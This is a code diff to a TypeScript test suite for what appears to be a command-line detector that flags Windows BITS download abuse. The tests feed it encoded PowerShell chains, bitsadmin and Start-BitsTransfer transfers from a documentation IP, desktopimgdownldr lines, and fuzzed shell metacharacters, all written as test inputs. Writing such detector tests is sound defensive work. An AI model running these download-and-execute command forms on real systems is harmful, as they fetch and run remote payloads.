@@ -6,7 +6,7 @@ import { encoded, processFacts, scriptFacts } from './rows.js';
 const million = 1_000_000;
 
 const shapes: readonly (readonly [string, string])[] = [
-  ...['^', '"', '`', "'", '(', '{', '[', '$(', '@(', '@{', '&', '|', ';', '%', '!', '%a%', '!a!', '\\', '\\"', '/c ', 'cmd /c ', '-enc ', 'bitsadmin ', 'bitsadmin /transfer ', 'bits+', "'a'+", 'a,', '$a=', '[char]', '.replace(', '-f ', '-join ', '<#', '#', '@"\n', '\n', ' ', '\t', '../', 'x\\..\\', 'http://', '{0}', 'iex ', '&(gcm ', 'for %i in (', 'if exist a ', 'call ', '>', '2>&1 ', 'set a=%a%%a%&', '$a+=$a;', '$x="$x$x";', 'wmic process call create "', 'CommandInvocation(', 'authorization:', '/setcredentials a b c ', ' -p x', 'http://a:', '.', '=', 'if ====', 'for in("', 'a', '}', "'x", '%a:~1,2%', '[char]$a=', '@{a=', '<', '...x', '\u0000', '\uD800'].map((part) => [part, part.repeat(Math.ceil(million / part.length))] as const),
+  ...['^', '"', '`', "'", '(', '{', '[', '$(', '@(', '@{', '&', '|', ';', '%', '!', '%a%', '!a!', '\\', '\\"', '/c ', 'cmd /c ', '-enc ', 'bitsadmin ', 'bitsadmin /transfer ', 'bits+', "'a'+", 'a,', '$a=', '[char]', '.replace(', '-f ', '-join ', '<#', '#', '@"\n', '\n', ' ', '\t', '../', 'x\\..\\', 'http://', '{0}', 'iex ', '&(gcm ', 'for %i in (', 'if exist a ', 'call ', '>', '2>&1 ', 'set a=%a%%a%&', '$a+=$a;', '$x="$x$x";', 'wmic process call create "', 'CommandInvocation(', 'authorization:', '/setcredentials a b c ', ' -p x', 'http://a:', '.', '=', 'if ====', 'for in("', 'a', '}', "'x", '%a:~1,2%', '[char]$a=', '@{a=', '<', '...x', 'file:', 'file:"', '\u0000', '\uD800'].map((part) => [part, part.repeat(Math.ceil(million / part.length))] as const),
 ];
 
 test.each(shapes)('a million characters of %j end', (_, text) => {
@@ -18,6 +18,12 @@ test.each(shapes)('a million characters of %j end', (_, text) => {
   expect(performance.now() - from).toBeLessThan(20_000);
 });
 
+test.each(['file:x', 'file:', 'file:file:x', 'file:"file:x', 'FILE:http://198.51.100.7/a', 'file:\\', 'file:///x'])('%s where a URL is expected', (place) => {
+  for (const line of [`bitsadmin /transfer j ${place} C:\\d\\a`, `bitsadmin /addfile j ${place} C:\\d\\a`, `bitsadmin /setnotifycmdline j ${place} NULL`, `powershell -c Start-BitsTransfer '${place}' C:\\d\\a`, `desktopimgdownldr /lockscreenurl:${place} /eventName:e`]) {
+    expect(() => processFacts(line)).not.toThrow();
+  }
+});
+
 test('commands within commands, encoded again and again', () => {
   let script = 'Start-BitsTransfer http://198.51.100.7/a C:\\d\\a';
   for (let depth = 0; depth < 7; depth++) script = `powershell -enc ${encoded(script)}`;
@@ -26,7 +32,7 @@ test('commands within commands, encoded again and again', () => {
 });
 
 const piece = fc.oneof(
-  { weight: 3, arbitrary: fc.constantFrom('bitsadmin', '/transfer', '/addfile', 'powershell', '-c', '-enc', 'Start-BitsTransfer', 'cmd', '/c', 'http://198.51.100.7/a', 'C:\\d\\a', '"', "'", '`', '^', '&', '|', '(', ')', '{', '}', '[', ']', '$a', '=', '+', '-f', '-join', '@', '%a%', '!a!', ',', ';', '\n', 'iex', 'gcm', 'St*fer', 'wmic', '__proto__', 'constructor', 'toString', '{0}', '-replace', '.', '::') },
+  { weight: 3, arbitrary: fc.constantFrom('bitsadmin', 'file:', '/transfer', '/addfile', 'powershell', '-c', '-enc', 'Start-BitsTransfer', 'cmd', '/c', 'http://198.51.100.7/a', 'C:\\d\\a', '"', "'", '`', '^', '&', '|', '(', ')', '{', '}', '[', ']', '$a', '=', '+', '-f', '-join', '@', '%a%', '!a!', ',', ';', '\n', 'iex', 'gcm', 'St*fer', 'wmic', '__proto__', 'constructor', 'toString', '{0}', '-replace', '.', '::') },
   fc.string({ maxLength: 6, unit: 'binary' }),
 );
 const line = fc.array(fc.tuple(piece, fc.constantFrom('', ' ')), { maxLength: 40 }).map((parts) => parts.flat().join(''));
